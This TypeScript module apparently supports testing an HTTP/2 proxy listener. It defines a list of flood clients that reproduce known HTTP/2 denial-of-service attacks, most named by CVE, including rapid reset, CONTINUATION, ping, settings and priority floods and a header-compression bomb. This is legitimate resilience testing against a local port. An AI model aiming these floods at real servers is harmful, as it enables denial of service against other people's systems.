import { setImmediate as nextTurn } from "node:timers/promises";
import { END_STREAM, FrameClient } from "../proxy/listener/http2-frames.ts";

/** A client that keeps the listener busy over HTTP/2. */
export interface Http2Flood {
  readonly name: string;
  /** Ends when everything is sent, or when the listener has closed the connection. */
  run(port: number): Promise<void>;
}

const GET = [":method", "GET", ":scheme", "http", ":authority", "h", ":path", "/"];
const POST = [":method", "POST", ":scheme", "http", ":authority", "h", ":path", "/"];
const LARGE = [":method", "GET", ":scheme", "http", ":authority", "h", ":path", "/large"];

const CANCEL = Buffer.from([0, 0, 0, 8]);
const INITIAL_WINDOW_SIZE = 4;
const FRAMES = 20_000;
/** Frames between two turns of the event loop, so that the client sees the end of its connection. */
const BURST = 200;

const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

/** Sends many frames on one connection. @param send called with 0, 1, 2, … */
function flood(
  name: string,
  send: (client: FrameClient, index: number) => void,
  begin?: (client: FrameClient) => void,
): Http2Flood {
  return {
    name,
    async run(port) {
      const client = await FrameClient.open(port);
      begin?.(client);
      for (let index = 0; index < FRAMES && !client.raw.socket.destroyed; index += 1) {
        send(client, index);
        if (index % BURST === 0) await nextTurn();
      }
      client.raw.close();
    },
  };
}

/** The stream of the client's n-th request. */
const streamOf = (index: number): number => 2 * index + 1;

export const HTTP2_FLOODS: readonly Http2Flood[] = [
  flood("requests that are reset at once (CVE-2023-44487)", (client, index) => {
    client.sendHeaders(streamOf(index), GET, END_STREAM);
    client.send("RST_STREAM", 0, streamOf(index), CANCEL);
  }),
  flood("requests that the server must reset (CVE-2025-8671): windows of zero bytes", (client, index) => {
    client.sendHeaders(streamOf(index), GET, END_STREAM);
    client.send("WINDOW_UPDATE", 0, streamOf(index), u32(0));
  }),
  flood("requests that the server must reset: data after their end", (client, index) => {
    client.sendHeaders(streamOf(index), GET, END_STREAM);
    client.send("DATA", 0, streamOf(index), Buffer.from("x"));
  }),
  flood("settings (CVE-2019-9515)", (client) => client.send("SETTINGS", 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))),
  flood("pings (CVE-2019-9512)", (client) => client.send("PING", 0, 0, Buffer.alloc(8))),
  flood(
    "data without bytes (CVE-2019-9518)",
    (client) => client.send("DATA", 0, 1, Buffer.alloc(0)),
    (client) => client.sendHeaders(1, POST),
  ),
  flood(
    "continuations without an end (CVE-2024-27983)",
    (client) => client.send("CONTINUATION", 0, 1, Buffer.from([0, 1, 0x78, 1, 0x79])),
    (client) => client.send("HEADERS", 0, 1, Buffer.from([0x82, 0x86, 0x84])),
  ),
  flood("priorities (CVE-2019-9513)", (client, index) => {
    client.send("PRIORITY", 0, streamOf(index % 1_000), Buffer.from([0, 0, 0, 0, index % 256]));
  }),
  flood("window updates", (client) => client.send("WINDOW_UPDATE", 0, 0, u32(1))),
  flood("window updates beyond the largest window", (client) => client.send("WINDOW_UPDATE", 0, 0, u32(0x7fff_ffff))),
  flood("a field that the compression table multiplies (CVE-2016-6581)", (client, index) => {
    const stored = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, "x")]);
    const block = Buffer.concat([Buffer.from([0x82, 0x86, 0x84]), stored, Buffer.alloc(10_000, 0xbe)]);
    if (index < 500) client.send("HEADERS", END_STREAM | 4, streamOf(index), block);
  }),
  {
    name: "responses that are requested and never read (CVE-2019-9517)",
    async run(port) {
      const clients = await Promise.all(Array.from({ length: 60 }, () => FrameClient.open(port)));
      for (const client of clients) {
        client.send("SETTINGS", 0, 0, Buffer.concat([Buffer.from([0, INITIAL_WINDOW_SIZE]), u32(0)]));
        for (let index = 0; index < 100; index += 1) client.sendHeaders(streamOf(index), LARGE, END_STREAM);
      }
      await Promise.all(
        clients.map((client) => client.until((frames) => frames.some(({ type }) => type === "HEADERS"))),
      );
      for (const { raw } of clients) raw.close();
    },
  },
  {
    name: "uploads that never end",
    async run(port) {
      const clients = await Promise.all(Array.from({ length: 20 }, () => FrameClient.open(port)));
      for (const client of clients) {
        for (let index = 0; index < 100; index += 1) {
          client.sendHeaders(streamOf(index), POST);
          client.send("DATA", 0, streamOf(index), Buffer.alloc(600, "x"));
        }
      }
      await nextTurn();
      for (const { raw } of clients) raw.close();
    },
  },
];
